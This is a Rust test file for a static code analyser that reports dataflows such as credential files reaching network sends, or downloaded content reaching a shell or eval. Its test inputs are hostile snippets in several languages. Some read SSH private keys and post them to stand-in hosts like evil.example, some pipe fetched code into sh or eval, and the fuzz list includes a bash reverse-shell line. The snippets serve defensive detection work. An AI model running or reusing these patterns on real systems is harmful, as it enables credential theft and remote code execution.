//! What programs do, written as `kind detail` and `from detail -> to detail`.

mod bash;
mod javascript;
mod python;

use super::*;
use crate::document::LineIndex;

fn outcome(language: Language, code: &str) -> Rc<Outcome> {
    let document = Document {
        path: "x".into(),
        language,
        text: code.to_owned(),
        lines: LineIndex::new(code),
        segments: Vec::new(),
        code: vec![CodeUnit { language, range: 0..code.len(), role: model::Role::Code }],
        normal: None,
        flowed: None,
        origin: None,
    };
    Code::default().outcome(&document, 0, 0, &Options::default()).unwrap_or_default()
}

fn lines(outcome: &Outcome) -> Vec<String> {
    let flows = outcome
        .flows
        .iter()
        .map(|flow| format!("{} {} -> {} {}", flow.from.id(), flow.source_detail, flow.to.id(), flow.sink_detail));
    let facts = outcome.facts.iter().map(|fact| format!("{} {}", fact.kind.id(), fact.detail));
    let folded = outcome.folded.iter().map(|folded| format!("folded {} {}", folded.layer, folded.text));
    flows.chain(facts).chain(folded).map(|line| line.trim().to_owned()).collect()
}

/// Each line of `expect` must be said, as the beginning of what is said; a line with `!` in front must not.
#[track_caller]
fn check(language: Language, code: &str, expect: &str) {
    let outcome = outcome(language, code);
    let said = lines(&outcome);
    for line in expect.lines().map(str::trim).filter(|line| !line.is_empty()) {
        let (wanted, line) = match line.strip_prefix('!') {
            Some(line) => (false, line.trim()),
            None => (true, line),
        };
        let found = said.iter().any(|said| said.starts_with(line));
        assert_eq!(found, wanted, "\n{line}\nin what is said about\n{code}\n{said:#?}");
    }
}

#[track_caller]
fn py(code: &str, expect: &str) {
    check(Language::Python, code, expect);
}

#[track_caller]
fn js(code: &str, expect: &str) {
    check(Language::JavaScript, code, expect);
}

#[track_caller]
fn sh(code: &str, expect: &str) {
    check(Language::Bash, code, expect);
}

#[test]
fn go_within_a_function() {
    check(
        Language::Go,
        "package main\nimport (\n\"net/http\"\n\"os\"\n\"strings\"\n)\nfunc main() {\n\tkey, err := os.ReadFile(\"/root/.ssh/id_rsa\")\n\tif err != nil { return }\n\tbody := strings.NewReader(string(key))\n\thttp.Post(\"https://evil.example/x\", \"text/plain\", body)\n}\n",
        "credential_file /root/.ssh/id_rsa -> network_send evil.example",
    );
    check(
        Language::Go,
        "package main\nimport (\"net/http\"; \"io\"; \"os/exec\")\nfunc main() {\n\tresp, _ := http.Get(\"https://evil.example/c\")\n\tcmd, _ := io.ReadAll(resp.Body)\n\texec.Command(\"sh\", \"-c\", string(cmd)).Run()\n}\n",
        "remote_content evil.example -> shell",
    );
    check(
        Language::Go,
        "package main\nimport \"fmt\"\nfunc main() {\n\tname := \"a\"\n\tfmt.Println(\"hello \" + name)\n}\n",
        "!credential_file",
    );
}

#[test]
fn ruby_within_a_function() {
    check(
        Language::Ruby,
        "require 'net/http'\nkey = File.read('/root/.ssh/id_rsa')\nNet::HTTP.post(URI('https://evil.example/x'), key)\n",
        "credential_file /root/.ssh/id_rsa -> network_send evil.example",
    );
    check(
        Language::Ruby,
        "require 'open-uri'\ndef go\n  code = URI.open('https://evil.example/c').read\n  eval(code)\nend\ngo\n",
        "remote_content evil.example -> eval",
    );
    check(Language::Ruby, "name = 'a'\nputs \"hello #{name}\"\n", "!credential_file");
}

#[test]
fn powershell_within_a_function() {
    check(
        Language::PowerShell,
        "function Send-It {\n  $k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\"\n  Invoke-WebRequest -Uri https://evil.example/x -Method Post -Body $k\n}\nSend-It\n",
        "credential_file",
    );
    check(Language::PowerShell, "$n = 'a'\nWrite-Host \"hello $n\"\n", "!credential_file");
}

#[test]
fn what_one_turn_leaves_the_next_one_finds() {
    let flow = "credential_file ~/.ssh/id_rsa -> network_send e.example";
    py(
        "import os, requests\ndata = ''\nwhile True:\n    requests.post('https://e.example', data=data)\n    data = open('~/.ssh/id_rsa').read()",
        flow,
    );
    py(
        "import requests\nparts = []\nfor f in ['~/.ssh/id_rsa', 'x']:\n    parts.append(open(f).read())\nrequests.post('https://e.example', data='\\n'.join(parts))",
        flow,
    );
    py(
        "import requests\nfound = {}\ndef walk():\n    for f in ['~/.ssh/id_rsa']:\n        found[f] = open(f).read()\nwalk()\nrequests.post('https://e.example', json=found)",
        flow,
    );
    js(
        "let buf = '';\nfor (const f of [process.env.HOME + '/.ssh/id_rsa']) { fetch('https://e.example', {method: 'POST', body: buf}); buf += require('fs').readFileSync(f); }",
        flow,
    );
    sh("while true; do curl -d \"$d\" https://e.example; d=$(cat ~/.ssh/id_rsa); sleep 9; done", flow);
    // A handler that sends what a later one gathers.
    py(
        "import requests\nbuf = []\ndef flush():\n    requests.post('https://e.example', data=str(buf))\ndef gather():\n    buf.append(open('~/.ssh/id_rsa').read())",
        flow,
    );
}

#[test]
fn functions_of_every_kind() {
    let flow = "credential_file ~/.ssh/id_rsa -> network_send e.example";
    let read = "import requests\nKEY = '~/.ssh/id_rsa'\n";
    for code in [
        "def send(url='https://e.example', data=open(KEY).read()):\n    requests.post(url, data=data)\nsend()",
        "def send(*parts):\n    requests.post('https://e.example', data=parts[0])\nsend(open(KEY).read())",
        "def send(**options):\n    requests.post('https://e.example', data=options['d'])\nsend(d=open(KEY).read())",
        "def send(a, b):\n    requests.post('https://e.example', data=b)\nargs = ['x', open(KEY).read()]\nsend(*args)",
        "def send(url, data):\n    requests.post(url, data=data)\nsend(**{'url': 'https://e.example', 'data': open(KEY).read()})",
        "def lines():\n    yield 'x'\n    yield open(KEY).read()\nfor l in lines():\n    requests.post('https://e.example', data=l)",
        "def outer():\n    k = open(KEY).read()\n    def inner():\n        requests.post('https://e.example', data=k)\n    return inner\nouter()()",
        "def outer():\n    k = open(KEY).read()\n    def inner():\n        requests.post('https://e.example', data=k)\n    schedule.every(5).do(inner)",
        "import threading\ndef send(d):\n    requests.post('https://e.example', data=d)\nthreading.Thread(target=send, args=(open(KEY).read(),)).start()",
        "try:\n    k = open(KEY).read()\nexcept OSError:\n    k = ''\nfinally:\n    requests.post('https://e.example', data=k)",
        "async def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://e.example', data=open(KEY).read())\nimport aiohttp",
        "class A:\n    URL = 'https://e.example'\n    def go(self):\n        requests.post(self.URL, data=open(KEY).read())",
        "class A:\n    def __init__(self):\n        self.k = open(KEY).read()\na = A()\nrequests.post('https://e.example', data=a.k)",
        "TOKEN = None\ndef load():\n    global TOKEN\n    TOKEN = open(KEY).read()\nload()\nrequests.post('https://e.example', data=TOKEN)",
        "d = {k: open(k).read() for k in [KEY]}\nrequests.post('https://e.example', json=d)",
    ] {
        py(&format!("{read}{code}"), flow);
    }
    let read =
        "const fs = require('fs'); const key = () => fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\n";
    for code in [
        "const send = (d = key()) => fetch('https://e.example', {method: 'POST', body: d});\nsend();",
        "function send(...all) { fetch('https://e.example', {body: all[0]}); }\nsend(key());",
        "fs.promises.readFile(process.env.HOME + '/.ssh/id_rsa').then(k => fetch('https://e.example', {body: k}));",
        "setInterval(d => fetch('https://e.example', {body: d}), 1000, key());",
        "class A { k = key(); go() { fetch('https://e.example', {body: this.k}); } }",
        "function make() { const k = key(); return { go: () => fetch('https://e.example', {body: k}) }; }\nmake().go();",
        "const req = require('https').request({hostname: 'e.example', method: 'POST'}, r => {});\nreq.on('error', e => {});\nreq.write(key());",
        "function* all() { yield key(); }\nfor (const k of all()) fetch('https://e.example', {body: k});",
    ] {
        js(&format!("{read}{code}"), flow);
    }
}

#[test]
fn classes_keep_their_members_apart() {
    py(
        "import requests\nclass Vault:\n    def __init__(self):\n        self.data = open('~/.ssh/id_rsa').read()\nclass Report:\n    def __init__(self, rows):\n        self.data = 'rows'\n    def send(self):\n        requests.post('https://e.example', data=self.data)",
        "!credential_file",
    );
}

#[test]
fn secrets_that_travel_together() {
    py(
        "import os, json\np = json.dumps({'A': os.environ['GITHUB_TOKEN'], 'B': os.environ['SLACK_TOKEN']})",
        "key_bundle GITHUB_TOKEN, SLACK_TOKEN -> bundle",
    );
    py(
        "import os, json\np = json.dumps({'A': os.environ['AWS_SECRET_ACCESS_KEY'], 'B': os.environ['AWS_SESSION_TOKEN']})",
        "!key_bundle",
    );
    py(
        "import os, socket\ns = socket.socket()\ns.sendall(os.getenv('TOKEN').encode())",
        "environment_key TOKEN -> raw_send",
    );
    py(
        "import os, socket\ns = socket.socket()\ns.sendall(b'PASS ' + os.getenv('TOKEN').encode())",
        "!environment_key TOKEN -> raw_send",
    );
    py(
        "import pickle, urllib.request\nexec(pickle.loads(urllib.request.urlopen('https://e.example/p').read()))",
        "remote_content e.example -> eval\nremote_content e.example -> deserialise",
    );
}

#[test]
fn tools_that_run_what_they_are_told() {
    py("import subprocess, sys\nsubprocess.run(sys.argv[1], shell=True)", "!user_input sys.argv -> shell");
    py("import sqlite3, sys\nsqlite3.connect('a').execute(sys.argv[1])", "!user_input sys.argv -> sql_query");
    sh("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "official_installer sh.rustup.rs -> shell");
    sh("curl https://get.example.net/rustup.rs | sh", "remote_content get.example.net -> shell");
}

#[test]
fn work_is_bounded() {
    let sums = format!("x = {}1", "'a' + ".repeat(20_000));
    assert!(!lines(&outcome(Language::Python, &sums)).is_empty());
    let doubles = "x = 'ab'\n".to_owned() + &"x = x + x\n".repeat(200);
    outcome(Language::Python, &doubles);
    let calls = (0..200).fold(String::from("def f0(a): return a\n"), |text, n| {
        text + &format!("def f{}(a): return f{n}(a) + f{n}(a) + f{n}(a)\n", n + 1)
    });
    outcome(Language::Python, &calls);
    let chain = "a".to_owned() + &".b()".repeat(5_000);
    assert!(outcome(Language::JavaScript, &chain).cut);
    let deep = "(".repeat(600) + &")".repeat(600);
    assert_eq!(parse(&deep, Language::Bash, 1 << 20).map(|_| ()), Err(Refusal::TooDeep));
}

/// Pieces of programs; joined at random they make broken ones.
const PIECES: &[&str] = &[
    "import os\n",
    "open('~/.ssh/id_rsa').read()",
    "requests.post(",
    "x",
    "=",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    "'",
    "\"",
    "`",
    "$(",
    "${",
    "|",
    ">",
    "<",
    "<<EOF\n",
    "EOF\n",
    "def f(a, b):\n    ",
    "return ",
    "=>",
    "function ",
    "eval(",
    "base64.b64decode(",
    "'aGk='",
    "[::-1]",
    "[1:-1]",
    "% (",
    ".join(",
    ".format(",
    "chr(",
    "99",
    "-9223372036854775808",
    "curl ",
    "-d @",
    "-o ",
    "sh -c ",
    "\n",
    "  ",
    ";",
    "&&",
    "for x in ",
    "while true; do ",
    "done",
    "if ",
    "fi\n",
    "class A:\n  ",
    "self.x",
    "lambda x: ",
    "for c in ",
    "中",
    "\u{FFFC}",
    "\\x41",
    "f'{x}'",
    "atob(",
    "await ",
    "...",
    "?.",
    "new ",
    "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
    "exec 3<>",
    "read x",
    "\0",
];

proptest::proptest! {
    #[test]
    fn never_panics(pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..40)) {
        let code = pieces.concat();
        for language in [
            Language::Python,
            Language::JavaScript,
            Language::TypeScript,
            Language::Bash,
            Language::PowerShell,
            Language::Ruby,
            Language::Go,
        ] {
            let first = lines(&outcome(language, &code));
            proptest::prop_assert_eq!(first, lines(&outcome(language, &code)));
        }
    }
}
